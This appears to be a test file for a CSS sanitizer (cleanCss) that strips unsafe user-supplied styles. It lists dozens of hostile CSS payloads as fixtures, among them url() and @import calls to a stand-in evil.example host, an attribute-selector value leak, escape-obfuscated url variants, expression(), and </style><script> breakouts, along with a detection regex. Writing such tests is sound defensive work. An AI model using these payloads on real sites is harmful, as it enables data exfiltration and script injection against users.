import fc from 'fast-check';
import { cleanCss } from './clean-css';

const LEAKS = [
  '@import "https://evil.example/x.css";', '@import url(//evil.example/x.css);', "@import 'x.css' layer(a);", '@IMPORT "//evil.example";', '@\\69mport "//evil.example";', '@charset "utf-7";', '@namespace x url(//evil.example);',
  '@font-face { font-family: x; src: url(https://evil.example/f.woff) }', '@font-face{font-family:x;src:local("x"),url(//evil.example)}', '@property --x { syntax: "<url>"; inherits: true; initial-value: url(//evil.example) }', '@document url(http://x) { a { color: red } }', '@counter-style x { system: cyclic; symbols: url(//evil.example) }',
  'a { background: url(https://evil.example/?x) }', 'a { background: URL("//evil.example") }', 'a { background: u\\72l(//evil.example) }', 'a { background: \\75 rl(//evil.example) }', "a { background-image: image-set('https://evil.example/a.png' 1x) }", 'a { background: -webkit-image-set(url(//evil.example) 1x) }', 'a { background: image("//evil.example") }', 'a { background: cross-fade(url(//evil.example), red) }', 'a { background: src("//evil.example") }',
  'input[value^="a"] { background: url(//evil.example/a) }', 'a { list-style: url(data:image/svg+xml,<svg onload=alert(1)>) }', 'a { cursor: url(//evil.example), auto }', 'a { content: url(//evil.example) }', 'a { mask: url(//evil.example#x) }', 'a { filter: url(//evil.example#x) }', 'a { --x: url(//evil.example); background: var(--x) }', 'a { --x: //evil.example; }',
  'a { width: expression(alert(1)) }', 'a { -moz-binding: url(//evil.example/x.xml#x) }', 'a { behavior: url(x.htc) }', 'a { -ms-behavior: url(x.htc) }', 'a { background: element(#x) }', 'a { content: attr(data-x url) }',
  'a { content: "</style><script>alert(1)</script>" }', '</style><script>alert(1)</script>', 'a { } </style ><img src=x onerror=alert(1)>', '<!-- a { background: url(//evil.example) } -->', 'a { color: red; } /* </style> */',
  'a { background: url(/api/user) }', 'a { background: url(/\\evil.example/api/media/1-a/1.jpg) }', 'a { background: url("/api/media/../user") }', 'a { background: url(javascript:alert(1)) }', 'a{background:url(\\2f\\2f evil.example)}', 'a { background: url( "https://evil.example', 'a { color: red', '@media screen { @import "x"; a { background: url(//evil.example) } }', 'a { &:hover { background: url(//evil.example) } }', '@supports (background: url(//evil.example)) { a { color: red } }',
];
const REACHES_OUT = /evil|@import|@font-face|@charset|@namespace|@property|expression|binding|behavior|javascript|<\/|<s|data:|\/api\/user|image-set|element\(|attr\(/i;

describe('custom CSS', () => {
  it.each(LEAKS)('%j reaches nobody', (css) => {
    expect(cleanCss(`.before{color:red}${css}`)).not.toMatch(REACHES_OUT);
    expect(cleanCss(css)).not.toMatch(REACHES_OUT);
  });

  it.each([
    ['.a{color:red}', '.a{color:red}'],
    ['.a { margin: 0 auto; color: var(--ink) }', '.a{margin:0 auto;color:var(--ink)}'],
    ['@media (min-width: 40rem) { .a { display: grid } }', '@media (min-width:40rem){.a{display:grid}}'],
    ['.a { background: url(/api/media/12-0123456789abcdef/960.webp) }', '.a{background:url(/api/media/12-0123456789abcdef/960.webp)}'],
    ['.a { width: calc(100% - 2rem) }', '.a{width:calc(100% - 2rem)}'],
    ['@keyframes x { from { opacity: 0 } to { opacity: 1 } }', '@keyframes x{from{opacity:0}to{opacity:1}}'],
  ])('%s stays', (css, clean) => {
    expect(cleanCss(css)).toBe(clean);
  });

  it('cleaned twice is what it was cleaned once, and never ends the element it stands in', () => {
    const pieces = fc.oneof(fc.constantFrom(...LEAKS), fc.constantFrom('{', '}', ';', ':', '(', ')', '"', "'", '\\', '/*', '*/', 'a', ' ', '\n', '@media x', '<', '</style>', 'url('), fc.string({ maxLength: 6 }));
    fc.assert(fc.property(fc.array(pieces, { maxLength: 10 }), (parts) => {
      const clean = cleanCss(parts.join(''));
      return cleanCss(clean) === clean && !clean.includes('<') && !REACHES_OUT.test(clean.replace(/"[^"]*"/g, ''));
    }), { numRuns: 3_000 });
  });
});
